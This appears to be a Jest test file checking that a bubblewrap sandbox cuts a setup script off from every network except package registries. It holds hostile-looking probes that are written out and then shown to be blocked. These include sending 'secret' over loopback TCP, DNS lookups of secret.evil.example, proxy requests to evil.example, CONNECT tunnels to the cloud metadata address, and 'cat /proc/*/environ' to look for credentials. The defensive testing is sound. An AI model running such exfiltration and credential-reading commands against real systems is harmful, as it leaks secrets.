// The network of setup, seen from inside: package registries and nothing else. Each way out that is closed here is first
// shown to be open where the network is shared.
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { networkInterfaces } from 'node:os';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { createBubblewrapSandbox } from '../../../../activities/sandbox/bubblewrap.js';
import { createNoSandbox } from '../../../../activities/sandbox/no-sandbox.js';
import { DEFAULT_SANDBOX_LIMITS, type Sandbox, type SandboxRun } from '../../../../activities/sandbox/sandbox.js';
import { testBubblewrap } from '../../../setup/bubblewrap.js';
import { freshFolder, removeFolders } from '../harness.js';
import { type Listener, listen } from './harness.js';

const ANSWER = 'HTTP/1.1 200 OK\r\ncontent-length: 8\r\nconnection: close\r\n\r\npackages';
const none = createNoSandbox();

let bwrapPath: string;
let sandbox: Sandbox;
let listener: Listener;

beforeAll(async () => {
  bwrapPath = await testBubblewrap();
  sandbox = createBubblewrapSandbox({ bwrapPath });
});
beforeEach(async () => {
  listener = await listen(ANSWER);
});
afterEach(() => listener.close());
afterAll(removeFolders);

/** A run of setup, and the hosts that it was refused. */
async function setup(where: Sandbox, command: string, options: Partial<SandboxRun> = {}) {
  const refused: string[] = [];
  const result = await where.run({
    command,
    worktree: freshFolder(),
    mounts: [],
    env: {},
    network: 'registries',
    onRefusedHost: (host) => refused.push(host),
    limits: { ...DEFAULT_SANDBOX_LIMITS, timeoutMs: 20_000 },
    signal: new AbortController().signal,
    ...options,
  });
  return { ...result, refused };
}

/** Connects, sends a text, and prints what comes back. */
function send(host: string, port: number, text: string): string {
  const options = JSON.stringify({ host, port });
  const script =
    `const s = require("net").connect(${options}, () => s.write(${JSON.stringify(text)}));` +
    's.setTimeout(3000, () => s.destroy()).on("error", (e) => console.log(e.code)).pipe(process.stdout)';
  return `node -e '${script}'`;
}

/** What package managers do: a request through the proxy of the environment. */
function fetchThroughProxy(address: string): string {
  return send('127.0.0.1', 3128, `GET ${address} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`);
}

describe('a script that calls out during setup', () => {
  test("does not reach the host's loopback", async () => {
    const attempt = send('127.0.0.1', listener.port, 'secret');
    expect((await setup(none, attempt)).output).toContain('packages');
    expect((await setup(sandbox, attempt)).output).toBe('ECONNREFUSED\n');
    expect(listener.received).toHaveLength(1);
  });

  test('does not reach any address of the host by raw TCP', async () => {
    const addresses = Object.values(networkInterfaces()).flatMap((each) => each ?? []);
    const own = addresses.find(({ family, internal }) => family === 'IPv4' && !internal)?.address ?? '127.0.0.2';
    const attempt = send(own, listener.port, 'secret');
    // The listener is on loopback, so outside the host itself answers that nobody listens there.
    expect((await setup(none, attempt)).output).toMatch(/ECONNREFUSED|packages/);
    expect((await setup(sandbox, attempt)).output).toBe(own === '127.0.0.2' ? 'ECONNREFUSED\n' : 'ENETUNREACH\n');
  });

  test('does not carry anything out in look-ups of names', async () => {
    const resolver = createSocket('udp4').bind(0, '127.0.0.1');
    await once(resolver, 'listening');
    const asked: string[] = [];
    resolver.on('message', (message) => asked.push(message.toString('latin1')));
    const attempt = `node -e '
      const r = new (require("dns").Resolver)({ timeout: 300, tries: 1 });
      r.setServers(["127.0.0.1:${resolver.address().port}"]);
      r.resolve4("secret.evil.example", (e) => console.log(e.code));'; getent hosts secret.evil.example; cat /etc/resolv.conf`;
    await setup(none, attempt);
    expect(asked.join()).toContain('secret');
    asked.splice(0);
    const { output } = await setup(sandbox, attempt);
    expect(output).toMatch(/^E(CONNREFUSED|TIMEOUT)\n/);
    expect(output).not.toContain('nameserver');
    expect(asked).toEqual([]);
    resolver.close();
  });

  test('does not reach by the proxy what is no registry, unless the operator names it', async () => {
    const address = `http://127.0.0.1:${listener.port}/`;
    const naming = createBubblewrapSandbox({ bwrapPath, registries: [`127.0.0.1:${listener.port}`] });
    expect((await setup(naming, fetchThroughProxy(address))).output).toContain('packages');
    const { output, refused } = await setup(sandbox, fetchThroughProxy(address));
    expect(output).toContain(`127.0.0.1:${listener.port} is no package registry`);
    expect(refused).toEqual([`127.0.0.1:${listener.port}`]);
    expect(listener.received).toHaveLength(1);
  });

  test('gets no tunnel to a metadata address, to another port of a registry, nor to any other host', async () => {
    // Without a cloud there is no metadata service to reach first; the refusal is what can be shown.
    const targets = ['169.254.169.254:80', '[fd00:ec2::254]:80', 'registry.npmjs.org:22', 'example.com:443'];
    const attempts = targets.map((target) =>
      send('127.0.0.1', 3128, `CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`),
    );
    const { output, refused } = await setup(sandbox, attempts.join('\n'));
    expect(output.match(/^HTTP\/1.1 403 /gm)).toHaveLength(targets.length);
    expect(refused).toEqual(['169.254.169.254', '[fd00:ec2::254]', 'registry.npmjs.org:22', 'example.com']);
  });

  test('is told of once for each host, however often it asks', async () => {
    const attempt = fetchThroughProxy('http://evil.example/');
    expect((await setup(sandbox, `${attempt}; ${attempt}`)).refused).toEqual(['evil.example']);
  });
});

describe('a registry on this machine that the operator named', () => {
  test('is reached directly as well, since some clients use no proxy for loopback', async () => {
    const naming = createBubblewrapSandbox({ bwrapPath, registries: [`127.0.0.1:${listener.port}`] });
    expect((await setup(naming, send('127.0.0.1', listener.port, 'GET'))).output).toContain('packages');
    expect(listener.received).toEqual(['GET']);
  });

  test('serves npm', async () => {
    const body = '{"name":"some-package","dist-tags":{"latest":"1.2.3"},"versions":{"1.2.3":{"version":"1.2.3"}}}';
    const registry = await listen(
      `HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`,
    );
    const hostEnv = { ...process.env, npm_config_registry: `http://127.0.0.1:${registry.port}/` };
    const naming = createBubblewrapSandbox({ bwrapPath, hostEnv });
    expect((await setup(naming, 'npm view some-package version')).output).toContain('1.2.3');
    expect(registry.received.join()).toMatch(/^GET \/some-package HTTP\/1.1/);
    await registry.close();
  });
});

describe('the command', () => {
  test('keeps its output, exit code and signal', async () => {
    expect(await setup(sandbox, 'echo out; echo err >&2; exit 7')).toMatchObject({ output: 'out\nerr\n', exitCode: 7 });
    expect(await setup(sandbox, 'kill -9 $$')).toMatchObject({ reason: 'signaled', signal: 'SIGKILL' });
    expect((await setup(sandbox, 'wait; jobs; echo "[$nightshift_forwarder]"')).output).toBe('[]\n');
  });

  test('finds no credentials of the operator', async () => {
    const hostEnv = {
      ...process.env,
      HTTPS_PROXY: 'http://me:pr0xypass@proxy.example:3128',
      PIP_INDEX_URL: 'https://me:ind3xpass@pypi.example/simple',
    };
    const { output } = await setup(createBubblewrapSandbox({ bwrapPath, hostEnv }), 'env; cat /proc/*/environ');
    expect(output).toContain('PIP_INDEX_URL=https://pypi.example/simple');
    expect(output).not.toMatch(/pr0xypass|ind3xpass|proxy\.example/);
  });

  test('has no proxy where no network was asked for', async () => {
    const { output } = await setup(sandbox, `env; ls /opt/nightshift; ${send('127.0.0.1', 3128, 'GET')}`, {
      network: 'none',
    });
    expect(output).not.toMatch(/proxy|registries/i);
    expect(output).toMatch(/ECONNREFUSED/);
  });
});
